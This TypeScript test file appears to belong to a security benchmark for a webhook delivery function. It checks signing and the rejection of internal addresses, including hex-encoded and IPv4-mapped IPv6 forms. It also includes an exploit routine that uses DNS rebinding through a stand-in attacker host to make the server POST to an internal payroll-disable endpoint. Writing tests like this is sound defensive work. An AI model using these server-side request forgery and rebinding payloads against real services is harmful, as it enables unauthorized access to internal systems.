import assert from 'node:assert/strict'
import { createHmac } from 'node:crypto'
import { openInternet } from '#proof/internet'
import type { Breach } from '#proof/vary'

type Code = typeof import('./deliver-webhook.ts')
type Received = { host?: string; path?: string; body: string; signature?: string }

async function withInternet<T>(attacker: string[], run: (received: Received[], internal: string[]) => Promise<T>): Promise<T> {
  const received: Received[] = []
  const internal: string[] = []
  const names = {
    'hooks.customer.example': ['203.0.113.30'],
    'db.internal': ['10.0.0.9'],
    'mapped.attacker.example': ['::ffff:10.0.0.9'],
    'hooks.attacker.example': attacker,
  }
  const internet = await openInternet(names, {
    '203.0.113.30': async (request, response) => {
      let body = ''
      for await (const chunk of request) body += chunk
      received.push({ host: request.headers.host, path: request.url, body, signature: String(request.headers['x-signature']) })
      response.writeHead(request.url === '/full' ? 507 : 204).end()
    },
    '203.0.113.66': (_request, response) => void response.writeHead(204).end(),
    '10.0.0.9': (request, response) => {
      internal.push(`${request.method} ${request.url}`)
      response.end()
    },
  })
  try {
    return await run(received, internal)
  } finally {
    internet.close()
  }
}

export const works = ({ deliverWebhook, DeliveryError }: Code) =>
  withInternet([], async (received, internal) => {
    const deliver = (url: string) => deliverWebhook({ url, secret: 'k1' }, { type: 'order.paid' })
    assert.equal(await deliver('http://hooks.customer.example/in?a=1'), 'delivered', 'An event should be delivered to the customer.')
    assert.equal(await deliver('http://hooks.customer.example/full'), 'refused', "A customer's server that refuses the event should be reported as such.")
    const [first] = received
    assert.deepEqual([first?.host, first?.path], ['hooks.customer.example', '/in?a=1'], "The customer's server should be asked for its own name and path.")
    assert.equal(first?.signature, createHmac('sha256', 'k1').update(first?.body ?? '').digest('hex'), 'The event should be signed with the secret of the webhook.')
    for (const url of ['ftp://hooks.customer.example/', 'http://db.internal/', 'http://10.0.0.9/', 'http://0xa000009/', 'http://mapped.attacker.example/', 'x'])
      await assert.rejects(deliver(url), DeliveryError, `${url} should not be delivered to.`)
    assert.deepEqual(internal, [], 'No internal server should get a request.')
  })

export async function exploit({ deliverWebhook }: Code): Promise<Breach | false> {
  // The internal address is the second, third or fourth answer.
  for (const count of [1, 2, 3]) {
    const answers = [...Array<string>(count).fill('203.0.113.66'), '10.0.0.9']
    const isReached = await withInternet(answers, async (_received, internal) => {
      const url = 'http://hooks.attacker.example:8080/services/payroll/disable'
      for (let event = 1; event <= 3; event++) await deliverWebhook({ url, secret: 'k2' }, { event }).catch(() => {})
      return internal.includes('POST /services/payroll/disable')
    })
    if (isReached) return { sent: `http://hooks.attacker.example:8080/services/payroll/disable, a name whose address changes from 203.0.113.66 to 10.0.0.9 after ${count} ${count === 1 ? 'answer' : 'answers'}`, got: 'the internal server 10.0.0.9 got: POST /services/payroll/disable' }
  }
  return false
}
